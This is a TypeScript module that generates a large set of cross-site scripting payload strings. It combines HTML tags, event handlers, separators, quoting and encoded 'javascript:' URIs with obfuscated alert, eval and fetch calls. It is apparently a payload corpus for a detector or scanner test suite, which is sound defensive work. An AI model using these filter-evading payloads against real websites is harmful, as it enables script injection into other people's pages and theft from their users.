import { product, type Spellings } from './spelling.ts';

const CALLS = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'top.alert(1)',
  "top['al'+'ert'](1)",
  "window['alert'](1)",
  'eval(name)',
  'a=alert,a(1)',
  '[1].map(alert)',
  'confirm(document.domain)',
  'print()',
  'alert&lpar;1&rpar;',
  '&#97;lert(1)',
  '&#x61&#x6c&#x65rt(1)',
  '\\u0061lert(1)',
  'throw onerror=alert,1',
  'location=name',
  "fetch('//x.example')",
];
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'x',
  'details',
  'input',
  'a',
  'math',
  'div',
  'xss-y',
  'p',
  'button',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onanimationend',
  'onpointerrawupdate',
  'onscrollsnapchange',
  'onbeforetoggle',
];

export const SCRIPT_SPELLINGS: readonly Spellings[] = [
  {
    name: 'scripts in every tag and handler',
    types: ['cross_site_scripting'],
    part: 'q',
    texts: [
      ...product(
        ['<'],
        TAGS,
        [' ', '/', '\t', '%0a', '%0c', '%0d', ' x="y" '],
        HANDLERS,
        ['=', ' = ', '%0a='],
        ['"', "'", '', '`'],
      ).flatMap((text, i) => {
        const quote = /["'`]$/.exec(text)?.[0] ?? '';
        return `${text}${CALLS[i % CALLS.length]}${quote}>`;
      }),
      ...product(
        ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea>', '</script>', ']]>'],
        ['<svg onload=alert(1)>', '<ScRiPt>alert(1)</ScRiPt>', '<img src=x onerror=alert(1)//'],
      ),
      ...product(['" ', "' ", '"', "'", '"/'], HANDLERS, ['='], CALLS),
    ],
  },
  {
    name: 'scripts in addresses',
    types: ['cross_site_scripting'],
    part: 'q',
    texts: product(
      ['<a href=', '<iframe src=', '<form action=', '<object data=', '<a href="', "<svg><a xlink:href='"],
      [
        'javascript:',
        'JaVaScRiPt:',
        'java%09script:',
        'java%0ascript:',
        'java&Tab;script:',
        'javascript&colon;',
        '&#106;avascript:',
        '&#x6A;avascript&#58;',
        '%01javascript:',
        ' javascript:',
        '\\x6aavascript:',
        'vbscript:',
      ],
      ['alert(1)', 'alert`1`', '//%0aalert(1)', 'eval(name)'],
    ),
  },
];
